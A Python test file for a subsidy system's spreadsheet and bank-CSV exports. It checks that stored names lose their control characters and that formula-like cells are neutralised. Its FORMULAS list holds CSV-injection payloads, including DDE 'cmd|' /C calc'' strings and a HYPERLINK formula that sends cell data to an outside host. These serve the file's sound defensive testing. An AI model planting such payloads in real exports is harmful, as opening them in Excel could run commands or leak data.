"""What goes out in spreadsheets and CSV files is cleaned when it is written, so data stored
before the edge checks existed can never break an export (`subsidy.common.xlsx._cell`), and no
cell of a CSV runs as a formula in Excel or WPS (`subsidy.common.csvfile`)."""
from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from subsidy.common.csvfile import safe_row, safe_text
from subsidy.common.xlsx import write_workbook
from subsidy.extensions import db
from subsidy.payments.models import Payment
from subsidy.regions.models import Region
from tests.edge_support import ROLES, seed
from tests.factories import HouseholdFactory

STORED_NAME = "张\x01三\x07\u202e\u200b"  # pasted and stored before names were checked (PostgreSQL holds no \x00)
FORMULAS = ['=HYPERLINK("http://x.cn/?"&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"]


def _sheet_values(data: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(values_only=True))


def test_a_control_character_already_stored_no_longer_breaks_the_register_export_for_any_role(app):
    world = seed()
    HouseholdFactory(region_code="640425100201", head_name=STORED_NAME)
    db.session.commit()
    for role in ROLES:
        user = world["users"][role]
        api = app.test_client()
        token = api.post("/api/v1/auth/token", json={"username": user.username, "password": "secret123"}).json["token"]
        r = api.get("/api/v1/households/export", headers={"Authorization": f"Bearer {token}"})
        if r.status_code == 403:
            continue  # a role without the export permission
        assert r.status_code == 200, (role, r.status_code)
        names = [row[0] for row in _sheet_values(r.data)]
        assert "张三" in names and not any("\x01" in str(n) or "\x07" in str(n) for n in names), role
        web = app.test_client()
        web.post("/login", data={"username": user.username, "password": "secret123"})
        assert web.post("/households/export", data={}).status_code == 200, role


def test_statistics_exports_survive_a_region_name_with_control_characters(login_as, county):
    from tests.factories import CaseFactory

    CaseFactory()  # received in 2024, handled by 640425100
    db.session.execute(sa.update(Region).where(Region.code == "640425100").values(name="白阳\x1b镇\u202e"))
    db.session.commit()
    web = login_as("county_admin")
    r = web.get("/cases/stats.xlsx?year=2024")
    assert r.status_code == 200 and any("白阳镇" in str(row) for row in _sheet_values(r.data))
    r = web.get("/dashboard.xlsx?year=2024")
    assert r.status_code == 200 and any("白阳镇" in str(row) for row in _sheet_values(r.data))


def _batch(names: list[str]):
    """A county-approved filing of one household per name in village 640425100202, its payment
    batch, and the payments' names then set as stored (bypassing today's checks)."""
    from subsidy.payments import service as payments
    from tests.factories import ProjectFactory, approved_filing, make_user

    for _ in names:
        HouseholdFactory(region_code="640425100202")
    project = ProjectFactory(year=2024)
    approved_filing("640425100202", project=project)
    reviewer = make_user("county_reviewer")
    batch = payments.create_batch(reviewer, project.id).batch
    db.session.commit()
    pays = list(db.session.scalars(sa.select(Payment).where(Payment.batch_id == batch.id).order_by(Payment.seq)))
    for payment, name in zip(pays, names, strict=True):
        payment.head_name = name
    db.session.commit()
    return reviewer, batch, pays


def _export(app, reviewer, batch, kind: str):
    web = app.test_client()
    web.post("/login", data={"username": reviewer.username, "password": "secret123"})
    return web.post(f"/payments/batches/{batch.id}/export", data={"format": kind})


def test_the_bank_csv_neutralises_formulas_keeps_long_digits_as_text_and_has_one_content_type(app, county):
    reviewer, batch, pays = _batch(FORMULAS + [STORED_NAME])
    r = _export(app, reviewer, batch, "csv")
    assert r.status_code == 200
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8"
    raw = r.data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw)))
    assert rows[0] == ["交易流水号", "户名", "身份证号", "账号", "金额", "摘要"]
    body = rows[1:-1]
    assert len(body) == len(pays) == len(FORMULAS) + 1
    by_id = {row[0].lstrip("\t"): row for row in body}
    for payment in pays:
        row = by_id[payment.disbursement_id]
        # 22-digit disbursement id, 18-digit ID number, 19-digit account: text to Excel.
        assert row[0] == "\t" + payment.disbursement_id and row[3] == "\t" + payment.payout_account
        assert row[2].lstrip("\t") == payment.id_number and row[2].startswith("\t")
        if payment.head_name in FORMULAS:
            assert row[1] == "'" + payment.head_name, row[1]
    assert any(row[1] == "张三" for row in body)
    # Amounts are numbers: bare (unquoted) in the file, never prefixed.
    amounts = [line.rsplit(",", 2)[-2] for line in raw.split("\r\n")[1:] if line.count(",") >= 5]
    assert amounts and all(a[0].isdigit() for a in amounts), amounts
    assert rows[-1][0] == "合计"


def test_the_bank_xlsx_keeps_every_formula_like_name_as_text_and_drops_control_characters(app, county):
    reviewer, batch, pays = _batch([FORMULAS[0], STORED_NAME])
    r = _export(app, reviewer, batch, "xlsx")
    assert r.status_code == 200
    names = [row[1] for row in _sheet_values(r.data)[1:-1]]
    assert names == [FORMULAS[0], "张三"]


@pytest.mark.parametrize("text", FORMULAS[:4])
def test_xlsx_cells_starting_with_formula_characters_are_string_cells(text):
    out = write_workbook("表", ["户名"], [[text], [STORED_NAME]])
    data = out.read()
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet["A2"].value == text and sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "张三"
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_csv_cells_are_made_safe_without_mangling_numbers():
    assert safe_text("=1+1") == "'=1+1" and safe_text("@SUM(A1)") == "'@SUM(A1)"
    assert safe_text("+86 139") == "'+86 139" and safe_text("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0"
    assert safe_text("\t=1") == "'\t=1" and safe_text("\r=1") == "'\r=1"
    assert safe_text("-5.00") == "-5.00" and safe_text("+5") == "+5"  # plain numbers are no formulas
    assert safe_text("马福") == "马福" and safe_text("13909541234") == "13909541234"
    assert safe_text("640425196001010011") == "\t640425196001010011"
    assert safe_text("64042519600101001X") == "\t64042519600101001X"
    assert safe_text("0954") == "\t0954"  # Excel would drop the leading zero
    assert safe_text("张\x00三") == "张三"
    assert safe_row(["=x", Decimal("-5.00"), 3, None]) == ["'=x", Decimal("-5.00"), 3, None]
